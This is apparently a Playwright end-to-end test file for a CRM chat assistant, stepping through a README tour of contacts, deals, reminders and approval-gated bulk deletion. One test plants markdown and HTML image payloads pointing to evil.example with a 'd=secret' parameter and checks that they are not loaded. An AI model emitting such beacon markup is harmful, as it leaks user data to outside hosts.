import { readFileSync } from 'node:fs';
import { DateTime } from 'luxon';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { aPage, eventually, launchBrowser, seen } from '../support/browser.ts';
import { ChatOnPage } from '../support/browser-chat.ts';
import { aDemoServer } from '../support/demo-server.ts';
import type { TestServer } from '../support/server.ts';
import { type JsonRecord, type Records, recordsOf } from '../support/server-records.ts';

const ZONE = 'America/New_York';
const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');

/** A line of the README's tour, as it stands there. */
function line(number: number): string {
  const found = new RegExp(`^${number}\\. (.+)$`, 'm').exec(readme);
  if (!found?.[1]) throw new Error(`The README's tour has no line ${number}.`);
  return found[1];
}

describe('the tour of the README, in one conversation on the demo company', () => {
  let server: TestServer;
  let browser: Browser;
  let page: Page;
  let chat: ChatOnPage;
  let records: Records;
  const foreign: string[] = [];

  beforeAll(async () => {
    server = await aDemoServer();
    browser = await launchBrowser();
    page = await aPage(browser, server);
    page.on('request', (request) => {
      const { protocol, host } = new URL(request.url());
      if (protocol !== 'data:' && host !== new URL(server.url).host) foreign.push(request.url());
    });
    chat = await new ChatOnPage(page).open();
    records = await recordsOf(server);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  const rowsOf = async (card: ReturnType<ChatOnPage['card']>) =>
    card
      .locator('tbody tr:not(.is-second)')
      .evaluateAll((rows) =>
        rows.map((row) => [...row.querySelectorAll('td')].map((cell) => cell.textContent ?? '')),
      );
  const withoutEmail = async () => (await records.list('contacts')).filter((contact) => !contact.email);

  it('1. adds Jane with her company, and says so the second time', async () => {
    const answer = await chat.say(line(1));
    const card = answer.getByRole('group', { name: 'Jane Doe' });
    expect(await seen(card)).toMatch(/Created/);
    expect(await seen(card)).toContain('jane@northwind.example');
    await card.getByRole('button', { name: 'Undo: Jane Doe' }).waitFor();
    const jane = await records.one('contacts', 'Jane Doe');
    const northwind = await records.one('companies', 'Northwind');
    expect(jane).toMatchObject({
      email: 'jane@northwind.example',
      jobTitle: 'VP Sales',
      companyId: northwind.id,
    });

    const again = await chat.say(line(1));
    expect(await seen(again)).toMatch(/already/);
    expect(await records.list('contacts', { search: 'Jane Doe' })).toHaveLength(1);
  });

  it('2. knows who “her” is', async () => {
    const answer = await chat.say(line(2));
    expect(await seen(answer.getByRole('group', { name: 'Jane Doe' }))).toContain('+1 415 555 0100');
    expect((await records.one('contacts', 'Jane Doe')).phone).toBe('+14155550100');
  });

  it('3. shows a table of those at Northwind nobody has talked to for a month', async () => {
    const answer = await chat.say(line(3));
    const names = (await rowsOf(answer.getByRole('group').first())).map(([name]) => name);
    const northwind = await records.one('companies', 'Northwind');
    const people = await records.list('contacts', {
      filter: { where: [{ field: 'companyId', op: 'eq', value: northwind.id }] },
    });
    const daysSince = ({ lastContactedAt: at }: JsonRecord) =>
      at ? DateTime.utc().diff(DateTime.fromISO(at), 'days').days : Number.POSITIVE_INFINITY;
    const idle = people.filter((one) => daysSince(one) > 32).map((one) => one.name);
    const recent = people.filter((one) => daysSince(one) < 27).map((one) => one.name);
    expect(idle).toContain('Jane Doe');
    expect(names).toEqual(expect.arrayContaining(idle));
    expect(names.filter((name) => recent.includes(name))).toEqual([]);
  });

  it('4. creates a deal, and 5. moves “it”', async () => {
    const before = (await records.list('opportunities')).map((deal) => deal.id);
    const created = await chat.say(line(4));
    expect(await seen(created)).toContain('$12,000');
    const deal = (await records.list('opportunities')).find(({ id }) => !before.includes(id));
    const endOfNextMonth = DateTime.now().setZone(ZONE).plus({ months: 1 }).endOf('month');
    expect(deal.expectedCloseAt).toBe(endOfNextMonth.toISODate());

    const moved = await chat.say(line(5));
    expect(await seen(moved)).toContain('Proposal');
    const pipeline = await records.get('pipelines', deal.pipelineId);
    const { stageId } = await records.get('opportunities', deal.id);
    expect(pipeline.stages.find((stage: JsonRecord) => stage.id === stageId)?.name).toBe('Proposal');
  });

  it('6. lists what closes this quarter, with the total', async () => {
    const now = DateTime.now().setZone(ZONE);
    const closing = (await records.list('opportunities')).filter((deal) => {
      const at = DateTime.fromISO(deal.expectedCloseAt ?? '', { zone: ZONE });
      return deal.status === 'open' && at >= now.startOf('quarter') && at <= now.endOf('quarter');
    });
    const total = closing.reduce((sum, deal) => sum + (deal.amountMinor ?? 0), 0) / 100;
    const answer = await chat.say(line(6));
    const card = answer.getByRole('group').first();
    const money = new Intl.NumberFormat('en-US', {
      style: 'currency',
      currency: 'USD',
      maximumFractionDigits: 0,
    });
    expect(await seen(card.locator('.table-card__total'))).toBe(money.format(total));
    expect(await seen(answer)).toContain(`${closing.length} deals`);
    const titles = closing.map((deal) => deal.title);
    if (closing.length > 12) await card.getByRole('button', { name: /^Show \d+ more/ }).click();
    const shown = await rowsOf(card);
    expect(shown.length).toBe(Math.min(closing.length, 20));
    for (const [title] of shown) expect(titles).toContain(title);
  });

  it('7. reminds at ten tomorrow, in the time zone of the workspace', async () => {
    const answer = await chat.say(line(7));
    expect(await seen(answer.getByRole('group', { name: 'Call Jane' }))).toContain('10:00');
    const task = await records.one('tasks', 'Call Jane');
    const tomorrow = DateTime.now().setZone(ZONE).plus({ days: 1 }).set({ hour: 10 }).startOf('hour');
    expect(DateTime.fromISO(task.remindAt).toMillis()).toBe(tomorrow.toMillis());
    expect(task.contactId).toBe((await records.one('contacts', 'Jane Doe')).id);
  });

  it('8. asks before it deletes many, takes no for an answer, then deletes what was shown', async () => {
    const doomed = await withoutEmail();
    expect(doomed.length).toBeGreaterThan(10);
    const title = `Delete ${doomed.length} contacts`;
    const asked = await chat.say(line(8));
    const card = asked.getByRole('group', { name: title });
    const text = await seen(card);
    expect(text).toContain('Needs your decision');
    expect(doomed.filter((contact) => text.includes(contact.name)).length).toBeGreaterThan(2);
    expect(await withoutEmail()).toHaveLength(doomed.length);

    const refused = await chat.answerTo(() => card.getByRole('button', { name: 'Reject' }).click());
    expect(await seen(refused)).toContain('Nothing was changed');
    await card.getByText('Rejected').waitFor();
    expect(await withoutEmail()).toHaveLength(doomed.length);

    const second = (await chat.say(line(8))).getByRole('group', { name: title });
    await chat.answerTo(() => second.getByRole('button', { name: /^(Approve|Delete)/ }).click());
    await second.getByText('Approved and done').waitFor();
    expect(await withoutEmail()).toEqual([]);
    const trash = await records.list('contacts', { deleted: 'only' });
    expect(trash.map((contact) => contact.id).sort()).toEqual(doomed.map((contact) => contact.id).sort());
  });

  it('9. takes all of it back at once', async () => {
    const answer = await chat.say(line(9));
    expect(await seen(answer)).toMatch(/^Undone/m);
    expect(await records.list('contacts', { deleted: 'only' })).toEqual([]);
    expect((await withoutEmail()).length).toBeGreaterThan(10);
  });

  it('10. reassigns many deals after approval, and no others', async () => {
    const team = await records.list('team-members');
    const idOf = (name: string) => team.find((member) => member.name.startsWith(name)).userId;
    const before = await records.list('opportunities');
    const meant = before.filter(
      (deal) => deal.ownerId === idOf('Akira') && deal.status === 'open' && deal.amountMinor > 2_000_000,
    );
    const asked = await chat.say(line(10));
    const card = asked.getByRole('group').first();
    expect(await seen(card)).toContain(`${meant.length} records`);
    expect(await seen(card)).toContain('Owner: Carlos Mendes');
    await chat.answerTo(() => card.getByRole('button', { name: /^(Approve|Delete)/ }).click());
    const after = await records.list('opportunities');
    const changed = after.filter((deal) => {
      const was = before.find(({ id }) => id === deal.id);
      return was?.ownerId !== deal.ownerId;
    });
    expect(changed.map((deal) => deal.id).sort()).toEqual(meant.map((deal) => deal.id).sort());
    expect(new Set(changed.map((deal) => deal.ownerId))).toEqual(new Set([idOf('Carlos')]));
  });

  it('11. prepares a call by a plan whose steps are shown, with a brief made of records', async () => {
    const steps = new Set<string>();
    await page.exposeFunction('e2eStep', (text: string) => steps.add(text));
    await page.evaluate(() => {
      new MutationObserver(() => {
        for (const step of document.querySelectorAll('.steps li'))
          (window as unknown as { e2eStep(text: string): void }).e2eStep(step.textContent ?? '');
      }).observe(document.body, { childList: true, subtree: true });
    });
    const answer = await chat.say(line(11));
    expect(
      new Set([...steps].map((step) => step.replace(/, (in progress|done|failed)$/, ''))).size,
    ).toBeGreaterThan(2);
    const brief = answer.getByRole('group', { name: /Northwind/ });
    const text = await seen(brief);
    expect(text).toContain('Jane Doe');
    expect(text).toContain('$12,000');
    expect(text).toContain('Call Jane');
    const northwind = await records.one('companies', 'Northwind');
    expect(text).toContain(northwind.industry);
  });

  it('12. says why it did that', async () => {
    const answer = await chat.say(line(12));
    expect(await seen(answer)).toContain(line(11));
    expect(await seen(answer)).toContain('It changed nothing');
  });

  it('remembers what it is told, and tells what it knows', async () => {
    await chat.say('Remember that Jane prefers mornings');
    expect(await seen(await chat.say('What do you know about Jane?'))).toContain('prefers mornings');
  });

  it('answers nonsense without doing anything', async () => {
    const before = await records.list('audit');
    const answer = await chat.say('blargle wibble 77');
    expect(await seen(answer)).toMatch(/did not understand/);
    expect(await records.list('audit')).toHaveLength(before.length);
  });

  it('refuses 20,001 characters clearly, and takes 20,000', async () => {
    const asked = await chat.asked.count();
    await chat.composer.fill('x'.repeat(20_001));
    await page.getByRole('alert').getByText('1 character too many: at most 20,000').waitFor();
    expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true);
    await chat.composer.press('Enter');
    await chat.composer.fill('x'.repeat(20_000));
    await page.getByText('0 characters left').waitFor();
    const answer = await chat.answerTo(() => chat.composer.press('Enter'));
    expect((await seen(answer)).length).toBeGreaterThan(20);
    expect(await chat.asked.count()).toBe(asked + 1);
  });

  it('loads nothing from another host, whatever a record or a message says', async () => {
    const image = '![logo](https://evil.example/pixel.png?d=secret)';
    await records.create('contacts', {
      name: `Mallory ${image}`,
      email: 'mallory@evil.example',
      notes: `<img src="https://evil.example/raw.png"> ${image}`,
    });
    await chat.say(`Remember that Jane likes ${image} and [this](https://evil.example/link)`);
    await chat.say('What do you know about Jane?');
    await chat.say('Show me Mallory');
    await chat
      .card(/Mallory/)
      .first()
      .waitFor();
    expect(await page.locator('img[src*="evil"]').count()).toBe(0);
    // to write to the address that a contact has loads nothing
    expect(await page.locator('a[href*="evil"]:not([href^="mailto:"])').count()).toBe(0);
    expect(foreign).toEqual([]);
  });

  it('lists the whole conversation after a reload, in the same words', async () => {
    const words = () => chat.log.locator('.message__bubble, .markdown').allInnerTexts();
    const before = await words();
    expect(before.length).toBeGreaterThan(35);
    await page.reload();
    await chat.open();
    await eventually(words).toEqual(before);
  });
});
